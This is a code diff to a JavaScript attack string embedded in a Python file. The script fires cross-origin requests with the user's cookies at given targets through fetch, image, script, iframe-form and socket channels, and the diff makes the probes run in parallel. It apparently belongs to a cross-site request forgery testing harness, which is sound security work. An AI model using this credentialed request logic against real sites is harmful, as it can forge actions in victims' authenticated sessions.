@@ -40,7 +40,7 @@ ATTACK = """async (targets) => {
     document.body.append(one);
     setTimeout(() => end("silent"), 3000);
   });
-  for (const target of targets) {
+  const tried = async (target) => {
     const sent = { method: target.method, body: target.method === "GET" ? undefined : target.body };
     for (const mode of ["no-cors", "cors"])
       await fetch(target.url, { ...sent, mode, credentials: "include" })
@@ -53,7 +53,7 @@ ATTACK = """async (targets) => {
       add("img", target, await loaded("img", (one) => { one.src = target.url; }));
       add("script", target, await loaded("script", (one) => { one.src = target.url; }));
     } else {
-      const name = `frame-${told.length}`;
+      const name = `frame-${targets.indexOf(target)}`;
       const frame = document.createElement("iframe");
       frame.name = name;
       document.body.append(frame);
@@ -71,7 +71,9 @@ ATTACK = """async (targets) => {
       try { seen = frame.contentDocument?.body?.textContent ?? "failed"; } catch { }
       add("form", target, seen);
     }
-  }
+  };
+  // Most answers never come: what is asked of one door waits for nobody else's.
+  await Promise.all(targets.map(tried));
   const sockets = [...new Set(targets.map(({ url }) => new URL(url).host))];
   for (const host of sockets)
     add("socket", { url: host }, await new Promise((end) => {
